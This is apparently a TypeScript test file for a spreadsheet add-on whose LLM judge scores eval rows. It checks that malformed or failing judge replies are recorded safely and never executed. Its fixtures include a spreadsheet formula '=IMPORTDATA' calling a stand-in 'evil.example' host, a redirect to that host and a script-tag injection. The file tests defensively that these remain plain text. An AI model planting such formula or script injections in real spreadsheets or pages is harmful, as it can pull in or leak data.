/** A judge of any quality, a proxy in its place, or none that answers: each row is scored or says why not, and no rate improves. */
import * as z from 'zod';
import type { WireResult } from '../../local/runtime';
import { endSentence } from '../../src/model/run';
import { addOnOf } from '../e2e/add-on';
import { keyed, reply } from '../e2e/transport';
import { ofToday } from '../support/thorough';

const KEY = 'test-judge-key-0001';

/** A chat completion whose message is this. */
const completion = (content: string): WireResult => {
  const choices = [{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content } }];
  const usage = { prompt_tokens: 100, completion_tokens: 20, total_tokens: 120 };
  return reply(200, JSON.stringify({ id: 'c', object: 'chat.completion', model: 'm', choices, usage }));
};
const verdictOf = (score: number, reason = 'It says the same.'): WireResult => {
  const agent_answer = { evidence: 'It was S. Dakota', reason, answer_type: 'text', score };
  return completion(JSON.stringify({ agent_answer }));
};
const FORM = /^the judge gave no usable verdict: the reply does not have the form that was asked for$/;

/**
 * The reply; the row's verdict; its error, or the reason of its score; how often the judge is asked: a pass is asked for twice, as the
 * answer lacks the expected words. One of each kind: test/judge/reply.test.ts and providers.test.ts have the details.
 */
const REPLIES: readonly (readonly [
  what: string,
  sent: WireResult,
  verdict: 'pass' | 'fail' | 'error' | 'undecided',
  says: RegExp,
  asked?: number,
])[] = [
  ['a verdict of 0', verdictOf(0, 'It says something else.'), 'fail', /something else/],
  ['no JSON', completion('The answer is right.'), 'error', FORM, 2],
  ['JSON of 20,000 levels', completion(`${'['.repeat(20_000)}${']'.repeat(20_000)}`), 'error', FORM, 2],
  [
    'a page with 200',
    reply(200, '<!DOCTYPE html><html><body>Please log in</body></html>'),
    'error',
    /^the judge’s reply is not JSON \(after 3 attempts\)$/,
    3,
  ],
  ['a redirect', reply(302, '', { Location: 'https://evil.example/' }), 'error', /^the judge answered 302$/],
  [
    'HTTP 404',
    reply(404, '{"error":{"message":"no such model","type":"error","code":null}}'),
    'undecided',
    /^not asked: api\.openai\.com has no model m at this address \(404\); hint: /,
  ],
  ['a formula for a reason', verdictOf(1, '=IMPORTDATA("https://evil.example")'), 'pass', /^=IMPORTDATA/],
  ['a script for a reason', verdictOf(1, '<script>alert(1)</script>'), 'pass', /<script>/],
  ['a reason of 100,000 characters', verdictOf(1, 'a'.repeat(100_000)), 'pass', /^a{100}/],
  ['control characters in a reason', verdictOf(1, 'a\u0000b\u001b[31mc\u202ed'), 'pass', /./],
];

const Scorecards = z.object({
  scorecards: z.array(
    z.looseObject({
      verdict: z.string(),
      error: z.nullable(z.string()),
      checks: z.looseObject({ agent_answer: z.looseObject({ reason: z.string() }) }),
    }),
  ),
});

/** A run over two rows, the first of which needs a judge, which always sends this. */
function runWith(sent: WireResult) {
  let asked = 0;
  const sheet = addOnOf(
    {
      GOLD: [
        ['test_id', 'query', 'expected_answer', 'actual_agent_answer'],
        ['judged', 'Which state?', 'South Dakota', 'It was S. Dakota.'],
        ['by rule', 'How much?', '590 kha', '590 kha'],
      ],
    },
    {
      transport: (requests) =>
        requests.map(() => {
          asked += 1;
          return sent;
        }),
      properties: keyed(),
    },
  );
  const set = [
    ['judge.provider', 'openai'],
    ['judge.model', 'm'],
  ];
  sheet.ask('runEvals', { set });
  const { scorecards } = Scorecards.parse(sheet.json());
  return { sheet, rows: scorecards, asked };
}

it.each(ofToday(REPLIES, 4))(
  'A judge that sends back %s',
  (_what, sent, verdict, says, requests = verdict === 'pass' ? 2 : 1) => {
    const { sheet, rows, asked } = runWith(sent);
    const [judged, byRule] = rows;
    expect(judged?.verdict).toBe(verdict);
    expect(judged?.error ?? judged?.checks.agent_answer.reason).toMatch(says);
    expect(asked).toBe(requests);
    expect([byRule?.verdict, byRule?.error]).toEqual(['pass', null]);
    // The reply is data: no formula except the links of rows, no key, and the eval set unchanged.
    const cells = sheet.runtime.workbook.tabs.flatMap(({ grid }) => [...grid.cells()]);
    expect(
      cells.flatMap(({ cell: { formula } }) =>
        formula === null || /^=HYPERLINK\("#gid=/.test(formula) ? [] : [formula],
      ),
    ).toEqual([]);
    expect(cells.filter(({ cell: { value, note } }) => `${String(value)}${note}`.includes(KEY))).toEqual([]);
    expect(sheet.row('GOLD', 2)['query']).toBe('Which state?');
  },
);

/** Six rows pass and three fail by code alone; three need a judge; one fails by code with an answer that needs a judge. */
const ROWS = [
  ...Array.from({ length: 6 }, () => ['BRA', 'BRA', '', '']),
  ...Array.from({ length: 3 }, () => ['BRA', 'PER', '', '']),
  ...Array.from({ length: 3 }, () => ['BRA', 'BRA', 'South Dakota', 'One of the Dakotas, they say.']),
  ['BRA', 'PER', 'South Dakota', 'One of the Dakotas, they say.'],
];
const GOLD = [
  ['query', 'expected_aoi_ids', 'actual_id', 'expected_answer', 'actual_agent_answer'],
  ...ROWS.map((cells, at) => [`Question ${at}?`, ...cells]),
];

const error = (status: number, message: string): WireResult =>
  reply(status, JSON.stringify({ error: { message } }));

const DEAD: readonly (readonly [how: string, result: WireResult, first: RegExp])[] = [
  ...(
    [
      ...['Address unavailable', 'DNS error', 'Timeout', 'SSL error'].map(
        (failure) => [failure, { failure }] as const,
      ),
      ...[408, 500, 502, 503, 504, 529].map((status) => [`HTTP ${status}`, error(status, 'x')] as const),
      ['a page of a gateway', reply(502, '<html>Bad gateway')],
      ['a page to log in', reply(200, '<html>Log in')],
      ['nothing at all', reply(200, '')],
    ] as const
  ).map(([how, result]) => [how, result, /^The judge did not answer: 3 rows were not/] as const),
  ['a refused key', error(401, 'no'), /^The judge stopped: api\.openai\.com refused the judge key/],
  ['no credit', error(402, 'no'), /^The judge stopped: the judge’s credit or quota/],
  ['no such model', error(404, 'no'), /^The judge stopped: api\.openai\.com has no model m/],
];

it.each(DEAD)('A judge that is dead is reported first: %s', (_how, result, first) => {
  const addOn = addOnOf(
    { GOLD },
    {
      transport: (requests) => requests.map(() => result),
      strictness: { toastNeedsWindow: false },
      properties: keyed({ judge: { provider: 'openai', model: 'm' } }),
    },
  );
  addOn.ask('runEvals', {});
  // A busy judge is waited for until the run gives up.
  addOn.settle();
  const summary = addOn.lastRun();
  const { pass = 0, fail = 0 } = summary?.tabs[0]?.verdicts ?? {};
  expect([pass, fail]).toEqual([6, 4]);
  const { outcome } = addOn.reply('runOutcome', {});
  const [page = { text: '' }] = addOn.reply('exportResults', { format: 'html' }).files;
  const texts = page.text.replace(/<(?:style|title)[\s\S]*?<\/(?:style|title)>|<h1[\s\S]*?<\/h1>/g, '');
  // The lines below the title.
  const lines = Array.from({ length: 2 }, (_row, at) =>
    String(addOn.line('Summary', at + 1).find(({ value }) => value !== null && value !== '')?.value),
  );
  for (const text of [
    summary && endSentence(summary.outcome),
    outcome && endSentence(outcome.outcome),
    addOn.status(),
    lines[1],
    texts.replace(/<[^>]*>/g, '').trim(),
  ])
    expect(text).toMatch(first);
});
